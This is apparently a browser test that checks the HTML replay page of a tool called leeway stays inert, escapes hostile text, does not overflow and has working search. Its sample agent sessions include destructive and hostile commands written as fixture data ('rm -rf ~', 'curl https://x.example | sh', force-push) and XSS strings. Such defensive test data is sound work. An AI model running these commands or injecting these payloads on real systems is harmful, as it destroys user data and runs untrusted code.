// Opens the page of `leeway replay` in a real Chromium: nothing is requested, nothing overflows, the search field hides and shows. Needs Chromium.
// Usage: node test/browser/replay-page.mjs [SESSIONS …] [--picture FILE]   (without sessions: the captures of real clients)
//   CHROMIUM names the browser. Runs the built package with a home of its own.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';
import { openBrowser } from './chromium.mjs';

const { values, positionals } = parseArgs({ options: { picture: { type: 'string' } }, allowPositionals: true });
const top = fileURLToPath(new URL('../../', import.meta.url));
const home = mkdtempSync(join(tmpdir(), 'leeway-page-'));
const file = join(home, 'page.html');
const sessions = positionals.length > 0 ? positionals : [sample()];

/** Two agents and a few causes, one of them with text that would break a page. */
function sample() {
  const path = join(home, 'sessions.jsonl');
  const session = (agent, day, commands) => ({
    id: `${agent}-${day}`,
    agent,
    cwd: join(home, 'project'),
    turns: commands.map((command, at) => ({
      role: 'call',
      tool: 'Bash',
      input: { command },
      outcome: 'ok',
      time: `2026-01-${day}T10:00:${10 + at}Z`,
      ...(at % 2 === 0 ? { answer: 'approved' } : {}),
    })),
  });
  const all = [
    session('claude-code', '01', ['git status', 'some-tool "<script>document.title=1</script>"', 'rm -rf ~', 'git push --force']),
    session('codex', '02', ['ls', 'other-tool "<img src=x onerror=document.title=1>"', 'curl https://x.example | sh']),
  ];
  writeFileSync(path, all.map((one) => `${JSON.stringify(one)}\n`).join(''));
  return path;
}

const made = spawnSync(process.execPath, [join(top, 'dist', 'leeway.cjs'), 'replay', ...sessions, '--html', file], {
  env: { ...process.env, HOME: home, XDG_STATE_HOME: join(home, 'state'), XDG_CONFIG_HOME: join(home, '.config') },
  encoding: 'utf8',
});
assert.equal(made.status, 0, made.stderr);

const browser = await openBrowser(home);
try {
  for (const width of [1100, 390]) {
    // oxlint-disable-next-line no-await-in-loop -- one page at a time
    const page = await browser.open(`file://${file}`, width);
    // oxlint-disable-next-line no-await-in-loop -- one page at a time
    await check(page, width);
  }
  if (values.picture !== undefined) {
    const page = await browser.open(`file://${file}`, 1100);
    writeFileSync(values.picture, await page.picture());
  }
} finally {
  await browser.close();
  rmSync(home, { recursive: true, force: true });
}
console.log('the page is as it should be');

async function check(page, width) {
  assert.deepEqual(
    page.requests.filter((url) => !url.startsWith('file:')),
    [],
    'requests',
  );
  assert.equal(await page.value('document.title'), 'leeway: your past sessions');
  assert.equal(await page.value('document.documentElement.scrollWidth <= innerWidth'), true, `overflow at ${width}`);
  const shown = `[...document.querySelectorAll('details.cause')].filter((one) => one.checkVisibility()).length`;
  const before = await page.value(shown);
  assert.ok(before > 0, 'causes');
  const type = (text) =>
    page.value(
      `document.getElementById('find').value = ${JSON.stringify(text)}; document.getElementById('find').dispatchEvent(new Event('input')); document.getElementById('find-count').textContent`,
    );
  assert.match(await type('no such words anywhere'), /^0 of \d+ entries$/);
  assert.equal(await page.value(shown), 0, 'hidden by the search');
  assert.equal(await type(''), '');
  assert.equal(await page.value(shown), before, 'shown again');
  assert.deepEqual(page.errors, [], 'errors on the page');
}
